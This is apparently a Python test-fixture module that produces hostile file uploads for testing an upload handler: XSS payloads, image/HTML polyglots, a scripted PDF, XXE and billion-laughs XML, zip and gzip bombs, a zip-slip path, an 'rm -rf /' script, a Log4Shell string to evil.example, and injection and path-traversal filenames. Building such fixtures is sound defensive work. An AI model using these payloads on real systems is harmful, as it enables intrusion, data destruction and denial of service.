"""Files, names and declared types that try to become something else than a download."""

from __future__ import annotations

import gzip
import io
import zipfile
import zlib

HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
SCRIPT = b"alert(document.domain)//"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"


def zipped(names: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in names.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def files() -> dict[str, bytes]:
    """What a file says, by a word for it."""
    return {
        "html": HTML,
        "html with spaces": b" \r\n\t" + HTML,
        "html with a mark": b"\xef\xbb\xbf" + HTML,
        "html in UTF-16": HTML.decode().encode("utf-16"),
        "html in UTF-7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "html without a head": b"<body onload=alert(1)>",
        "html after a comment": b"<!-- x -->" + HTML,
        "html after text": b"hello " + HTML,
        "html far behind": b"a" * 4000 + HTML,
        "html after NUL": b"\x00" + HTML,
        "iframe": b"<iframe src=javascript:alert(1)>",
        "an image that fails": b"<img src=x onerror=alert(1)>",
        "a link": b"<a href=javascript:alert(1)>x</a>",
        "meta refresh": b'<meta http-equiv="refresh" content="0;url=https://evil.example">',
        "a base": b"<base href=https://evil.example/>",
        "mhtml": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML,
        "svg": SVG,
        "svg after xml": b'<?xml version="1.0"?>\n' + SVG,
        "svg with an entity": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
        "svg in capitals": SVG.upper(),
        "svg compressed": gzip.compress(SVG),
        "xml that is styled": b'<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?><a/>',
        "xml that laughs": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>',
        "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
        "a script": SCRIPT,
        "a module": b"export default 1; import('https://evil.example/x.js')",
        "a style": b"body{background:url(javascript:alert(1))}",
        "json that is a script": b"/**/alert(1)//",
        "gif that is a script": b"GIF89a=1/*" + b"\0" * 20 + b"*/;" + SCRIPT,
        "gif that is html": b"GIF89a" + HTML,
        "png that is html": PNG + HTML,
        "png that is a script": PNG + b"*/" + SCRIPT,
        "jpeg that is html": JPEG + HTML,
        "jpeg with a comment": b"\xff\xd8\xff\xfe\x00\x40" + HTML[:62],
        "bmp that is a script": b"BM=1;" + SCRIPT + b"\0" * 40,
        "webp that is html": b"RIFF\x00\x00\x00\x00WEBPVP8 " + HTML,
        "wav that is html": b"RIFF\x00\x00\x00\x00WAVEfmt " + HTML,
        "mp4 that is html": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + HTML,
        "ogg that is html": b"OggS\x00\x02" + b"\0" * 22 + HTML,
        "png of 40,000 by 40,000": PNG[:16] + (40_000).to_bytes(4, "big") * 2 + PNG[24:],
        "pdf with a script": PDF,
        "pdf that is html": PDF + HTML,
        "pdf further on": b"\n" * 500 + PDF,
        "exe": b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 60 + b"PE\0\0",
        "elf": b"\x7fELF\x02\x01\x01\x00" + b"\0" * 60,
        "a shell script": b"#!/bin/sh\nrm -rf /\n",
        "flash": b"CWS\x0a" + zlib.compress(b"\0" * 100),
        "a shortcut": b"[InternetShortcut]\r\nURL=javascript:alert(1)\r\n",
        "a zip bomb": zipped({"a": b"\0" * 5_000_000}),
        "a zip in a zip": zipped({"a.zip": zipped({"a": b"\0" * 1_000_000})}),
        "a zip that climbs": zipped({"../../../etc/cron.d/x": b"x"}),
        "a jar": zipped({"META-INF/MANIFEST.MF": b"Main-Class: X"}),
        "html in a zip": HTML + zipped({"a": b"a"}),
        "a gzip bomb": gzip.compress(b"\0" * 5_000_000),
        "nothing": b"",
        "one byte": b"<",
        "bytes": bytes(range(256)),
    }


NAMES: tuple[bytes, ...] = (
    b"photo.jpg",
    b"photo.jpg.html",
    b"photo.html.jpg",
    b"photo.svg",
    b"photo.jpg%00.html",
    b"../../../../etc/passwd",
    b"..\\..\\windows\\system32\\drivers\\etc\\hosts",
    b"/etc/passwd",
    b"C:\\autoexec.bat",
    b"\\\\host\\share\\x",
    b".htaccess",
    b"..",
    b".",
    b"",
    b" ",
    b"con.txt",
    b"a" * 300 + b".png",
    "ü".encode() * 200 + b".png",
    b'a\\";filename=\\"evil.html',
    b"a; filename=evil.html",
    b"a%0d%0aSet-Cookie: x=1",
    b"a%22%3b filename=%22evil.html",
    "exe\u202egpj.scr".encode(),
    "a\u2066b\u2069.png".encode(),
    "\u202e\u202d".encode(),
    b"a\x7fb\x01c.png",
    b"\xff\xfe\xfd.png",
    b"\xed\xa0\x80.png",
    "日本語.png".encode(),
    "🦆.png".encode(),
    b"<script>alert(1)</script>.png",
    b"'; DROP TABLE media; --.png",
    b"${jndi:ldap://evil.example}.png",
    b"a'b\"c`d$e.png",
    b"percent%41%zz.png",
)
DECLARED: tuple[bytes, ...] = (
    b"image/png",
    b"text/html",
    b"image/svg+xml",
    b"application/xhtml+xml",
    b"text/javascript",
    b"text/plain; charset=utf-7",
    b"application/pdf",
    b"text/plain",
    b"video/mp4",
    b"application/json",
    b"multipart/mixed",
    b"x" * 300,
    b"",
)


def form(content: bytes, name: bytes, declared: bytes) -> bytes:
    """The body of an upload, written by hand: no library would send such a name. The boundary is ``edge``."""
    head = b'--edge\r\nContent-Disposition: form-data; name="file"; filename="' + name + b'"\r\n'
    kind = b"Content-Type: " + declared + b"\r\n" if declared else b""
    return head + kind + b"\r\n" + content + b"\r\n--edge--\r\n"
